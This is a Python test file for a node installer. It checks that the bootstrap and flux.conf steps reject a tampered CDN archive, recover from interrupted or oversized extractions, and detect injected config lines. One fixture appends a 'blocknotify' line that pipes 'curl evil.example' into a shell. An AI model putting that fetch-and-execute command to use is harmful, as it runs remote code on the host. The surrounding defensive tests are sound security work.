"""The bootstrap and flux.conf steps against a lying CDN on 127.0.0.1 (issue 15, Critical and
"Bootstrap robustness"): the whole plan runs on the sandbox host, as in test_runner."""

from __future__ import annotations

import io
import tarfile
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest
import pytest_asyncio

from nodectl.install.archive import MARKER, STAGING
from nodectl.install.host import CommandResult
from nodectl.install.operations import Operation
from nodectl.install.params import InstallParams
from nodectl.install.sandbox import SandboxHost

from .conftest import WIF, BootstrapServer, make_bootstrap
from .test_archive_policy import EVIL_CONF
from .test_runner import Harness

FLUX = "/home/fluxnode/.flux"


@pytest_asyncio.fixture
async def client() -> AsyncIterator[aiohttp.ClientSession]:
    async with aiohttp.ClientSession() as session:
        yield session


@pytest.fixture
def harness(tmp_path: Path, bootstrap_server: BootstrapServer, client: aiohttp.ClientSession,
            params: InstallParams) -> Harness:
    return Harness(tmp_path, bootstrap_server, client, params)


def tampered_bootstrap() -> bytes:
    """A real-looking bootstrap with flux.conf and fluxnode.conf added beside the chain."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, data in (("blocks/blk00000.dat", b"b" * 5000),
                           ("chainstate/000001.ldb", b"c" * 5000),
                           ("determ_zelnodes/000001.ldb", b"d" * 5000),
                           ("flux.conf", EVIL_CONF),
                           ("fluxnode.conf", b"mn1 203.0.113.9:16125 key txid 0\n")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def names(host: SandboxHost, folder: str) -> list[str]:
    path = host.path(folder)
    return sorted(p.name for p in path.iterdir()) if path.is_dir() else []


@pytest.mark.asyncio
async def test_tampered_bootstrap_cannot_replace_flux_conf(harness: Harness) -> None:
    harness.server.files["b.tar.gz"] = tampered_bootstrap()
    result = await (await harness.runner()).run()
    assert not result.ok and result.failed_step == "bootstrap"
    assert "flux.conf" in result.message and "refused" in result.message
    host = harness.host
    assert names(host, FLUX) == [], "nothing from a refused archive may land in ~/.flux"
    assert not any(host.scratch_dir().iterdir()), "a refused archive is deleted"

    harness.server.files["b.tar.gz"] = make_bootstrap()  # the CDN serves the real one again
    retry = await (await harness.runner()).run()
    assert retry.ok, (retry.failed_step, retry.message)
    conf = await host.read_text(f"{FLUX}/flux.conf") or ""
    assert "notify" not in conf and "attacker" not in conf and f"zelnodeprivkey={WIF}" in conf
    assert names(host, FLUX) == sorted([MARKER, "blocks", "chainstate", "determ_zelnodes",
                                        "flux.conf"])


@pytest.mark.asyncio
async def test_incomplete_chain_is_not_taken_for_a_complete_one(harness: Harness) -> None:
    """Folders an interrupted extraction left behind (no marker) are replaced, not skipped."""
    host = harness.host
    for folder in ("blocks", "chainstate", "determ_zelnodes"):
        host.path(f"{FLUX}/{folder}").mkdir(parents=True)
    host.path(f"{FLUX}/blocks/blk00000.dat").write_bytes(b"half a file")
    result = await (await harness.runner()).run()
    assert result.ok, (result.failed_step, result.message)
    assert "bootstrap" in result.done
    assert host.path(f"{FLUX}/{MARKER}").is_file()
    assert not host.path(f"{FLUX}/blocks/blk00000.dat").exists()
    assert host.path(f"{FLUX}/blocks/data.dat").stat().st_size == 300_000


@pytest.mark.asyncio
async def test_chain_bigger_than_free_space_stops_before_extracting(harness: Harness) -> None:
    host = harness.host
    host.free_bytes = 100_000  # the three 300 kB folders do not fit
    result = await (await harness.runner()).run()
    assert not result.ok and result.failed_step == "bootstrap"
    assert "free some space" in result.message + result.fix
    assert names(host, FLUX) == [] and not host.path(f"{FLUX}/{STAGING}").exists()
    assert any(host.scratch_dir().iterdir()), "the downloaded archive is kept for Retry"

    host.free_bytes = 500 * 10**9
    downloads = len(harness.server.requests)
    retry = await (await harness.runner()).run()
    assert retry.ok and retry.done[0] == "bootstrap"
    assert len(harness.server.requests) == downloads, "Retry reuses the downloaded archive"


class ConfTamperingHost(SandboxHost):
    """Another program on the machine adds a notify command whenever flux.conf is written."""

    async def perform(self, op: Operation, **kwargs: Any) -> CommandResult:
        result = await super().perform(op, **kwargs)
        if op.name == "write_config" and op.args.get("kind") == "flux_conf":
            conf = self.path(f"{FLUX}/flux.conf")
            conf.write_bytes(conf.read_bytes()
                             + b"blocknotify=/bin/sh -c 'curl evil.example | sh'\n")
        return result


@pytest.mark.asyncio
async def test_flux_conf_is_read_back_after_writing(harness: Harness) -> None:
    host = ConfTamperingHost(harness.host.root)
    host.seed_machine()
    harness.host = host
    result = await (await harness.runner()).run()
    assert not result.ok and result.failed_step == "flux-conf"
    assert "blocknotify" in result.message
    assert WIF not in result.message and "rpcpassword=" not in result.message


@pytest.mark.asyncio
async def test_credentials_from_a_tampered_flux_conf_are_not_reused(harness: Harness,
                                                                   params: InstallParams,
                                                                   ) -> None:
    """A flux.conf an earlier (vulnerable) bootstrap wrote: its RPC login is the attacker's."""
    host = harness.host
    conf = host.path(f"{FLUX}/flux.conf")
    conf.parent.mkdir(parents=True)
    conf.write_bytes(EVIL_CONF)
    result = await (await harness.runner(params)).run()
    assert result.ok, (result.failed_step, result.message)
    text = conf.read_text()
    assert "attacker" not in text and "known" not in text and "notify" not in text
